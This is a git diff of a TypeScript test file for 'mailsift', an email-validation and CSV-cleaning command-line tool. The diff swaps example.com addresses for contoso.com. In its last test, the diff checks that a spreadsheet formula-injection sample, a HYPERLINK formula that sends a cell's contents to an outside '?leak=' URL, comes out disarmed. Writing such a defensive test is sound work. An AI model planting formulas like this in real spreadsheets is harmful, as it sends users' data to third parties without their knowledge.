@@ -9,48 +9,48 @@ import { makeFolder } from './support/folder.ts'
 import { CLEAN_ENV, EXAMPLE, jsonLines, mailsift, mailsiftBytes, PROGRAM } from './support/mailsift.ts'
 
 /** One row for every kind of answer. */
-const CSV = 'name,email\nAda,ada.lovelace@example.com\nDesk,info@example.com\nNobody,nobody\nRagged\n'
+const CSV = 'name,email\nAda,ada.lovelace@contoso.com\nDesk,info@contoso.com\nNobody,nobody\nRagged\n'
 
 describe('validate --local', () => {
   test('says of each address what it is, in the order given', async () => {
     const { code, stdout, stderr } = await mailsift([
       'validate',
       '--local',
-      'ada.lovelace@example.com',
+      'ada.lovelace@contoso.com',
       'info@mailinator.com',
       'nobody',
     ])
     expect({ code, stderr }).toEqual({ code: 0, stderr: '' })
     expect(stdout).toBe(
-      'safe       ada.lovelace@example.com\n' +
+      'safe       ada.lovelace@contoso.com\n' +
         'unsafe     info@mailinator.com  disposable, role-based\n' +
         'malformed  nobody  The address has no @ sign.\n',
     )
   })
 
   test('reads stdin for -, line by line, without blank lines', async () => {
-    const input = 'ada.lovelace@example.com\r\n\n  info@example.com\nnobody'
+    const input = 'ada.lovelace@contoso.com\r\n\n  info@contoso.com\nnobody'
     const { code, stdout } = await mailsift(['validate', '--local', '--json', '-'], { input })
     expect(code).toBe(0)
     expect(jsonLines(stdout)).toMatchObject([
-      { index: 0, input: 'ada.lovelace@example.com', error: null, result: { validations: { safe_to_send: true } } },
-      { index: 1, input: '  info@example.com', error: null, result: { inbound: 'info@example.com' } },
+      { index: 0, input: 'ada.lovelace@contoso.com', error: null, result: { validations: { safe_to_send: true } } },
+      { index: 1, input: '  info@contoso.com', error: null, result: { inbound: 'info@contoso.com' } },
       { index: 2, input: 'nobody', error: { code: 'invalid_email' }, result: null },
     ])
   })
 
   test('a byte order mark before the first line belongs to no address', async () => {
-    const input = '\ufeffada.lovelace@example.com\r\n\ufeffada.lovelace@example.com\r\n'
+    const input = '\ufeffada.lovelace@contoso.com\r\n\ufeffada.lovelace@contoso.com\r\n'
     const { stdout } = await mailsift(['validate', '--local', '-'], { input })
     expect(stdout).toBe(
-      'safe       ada.lovelace@example.com\n' + 'unsafe     \\u{feff}ada.lovelace@example.com  uncommon Unicode\n',
+      'safe       ada.lovelace@contoso.com\n' + 'unsafe     \\u{feff}ada.lovelace@contoso.com  uncommon Unicode\n',
     )
   })
 
   test('answers a line while the next one is still being typed', async () => {
     const child = spawn(process.execPath, [PROGRAM, 'validate', '--local', '-'], { env: CLEAN_ENV })
     const answer = new Promise<string>((resolve) => child.stdout.setEncoding('utf8').once('data', resolve))
-    child.stdin.write('ada.lovelace@example.com\n')
+    child.stdin.write('ada.lovelace@contoso.com\n')
     expect(await answer).toMatch(/^safe /)
     child.stdin.end()
     expect(await new Promise((resolve) => child.once('close', resolve))).toBe(0)
@@ -72,8 +72,8 @@ describe('validate --local', () => {
   })
 
   test.for([
-    ['ada.lovelace@example.com', 0],
-    ['info@example.com', 10],
+    ['ada.lovelace@contoso.com', 0],
+    ['info@contoso.com', 10],
     ['nobody', 10],
   ] as const)('--fail-on unsafe ends with the exit code of %s', async ([address, expected]) => {
     expect((await mailsift(['validate', '--local', '--fail-on', 'unsafe', address])).code).toBe(expected)
@@ -155,7 +155,7 @@ describe('clean --local', () => {
 
   test('--fail-on unsafe ends with 10 when a row is not safe', async () => {
     expect((await clean(['--fail-on', 'unsafe'])).code).toBe(10)
-    expect((await clean(['--fail-on', 'unsafe'], 'email\nada.lovelace@example.com\n')).code).toBe(0)
+    expect((await clean(['--fail-on', 'unsafe'], 'email\nada.lovelace@contoso.com\n')).code).toBe(0)
   })
 
   test('whoever stops reading early ends it quietly', async () => {
@@ -193,30 +193,30 @@ describe('the column of the addresses', () => {
   }
 
   test.for([
-    ['by its cells, whatever its name', 'a;b\n1;x@example.com\n', 'x@example.com'],
+    ['by its cells, whatever its name', 'a;b\n1;x@contoso.com\n', 'x@contoso.com'],
     ['by its name, when no cell tells', 'name,E-Mail\nAda,\nBob,\n', ''],
-    ['past cells that are no addresses', 'email\n\nx@example.com\nx@example.org\nnone\n', 'x@example.com'],
+    ['past cells that are no addresses', 'email\n\nx@contoso.com\nx@contoso.org\nnone\n', 'x@contoso.com'],
     [
       'beside the answers of an earlier cleaning',
-      'mail,service.inbound\nx@example.com,y@example.com\n',
-      'x@example.com',
+      'mail,service.inbound\nx@contoso.com,y@contoso.com\n',
+      'x@contoso.com',
     ],
-    ['behind a byte order mark', '\ufeffemail,name\nx@example.com,A\n', 'x@example.com'],
+    ['behind a byte order mark', '\ufeffemail,name\nx@contoso.com,A\n', 'x@contoso.com'],
   ] as const)('is found %s', async ([, input, expected]) => {
     expect(await columnOf(input)).toBe(expected)
   })
 
   test('is taken as it is named', async () => {
-    const two = 'home,work\nh@example.com,w@example.com\n'
-    expect(await columnOf(two, ['--column', 'work'])).toBe('w@example.com')
-    expect(await columnOf(two, ['-c', 'HOME'])).toBe('h@example.com')
-    expect(await columnOf(two, ['-c', '#2'])).toBe('w@example.com')
+    const two = 'home,work\nh@contoso.com,w@contoso.com\n'
+    expect(await columnOf(two, ['--column', 'work'])).toBe('w@contoso.com')
+    expect(await columnOf(two, ['-c', 'HOME'])).toBe('h@contoso.com')
+    expect(await columnOf(two, ['-c', '#2'])).toBe('w@contoso.com')
   })
 
   test.for([
     [
       'of several, the choices are told',
-      'home,work,city\nh@example.com,w@example.com,X\n',
+      'home,work,city\nh@contoso.com,w@contoso.com,X\n',
       [],
       /--column.*"home", "work"\./,
     ],
@@ -226,7 +226,7 @@ describe('the column of the addresses', () => {
     ['of nothing but a byte order mark, that is told', '\ufeff', [], /Nothing is in it/],
     [
       'of two of one name, both are told',
-      'email,email\na@example.com,b@example.com\n',
+      'email,email\na@contoso.com,b@contoso.com\n',
       [],
       /"email \(#1\)", "email \(#2\)"/,
     ],
@@ -257,7 +257,7 @@ describe('the example file', () => {
 
   test('a formula of ours is disarmed, one of theirs stays theirs', async () => {
     const { stdout } = await mailsift(['clean', '--local', EXAMPLE])
-    expect(stdout).toContain('"=HYPERLINK(""http://example.com/?leak=""&A1,""Open invoice"")"')
-    expect(stdout).toContain(",'=sum@example.com,")
+    expect(stdout).toContain('"=HYPERLINK(""http://contoso.com/?leak=""&A1,""Open invoice"")"')
+    expect(stdout).toContain(",'=sum@contoso.com,")
   })
 })
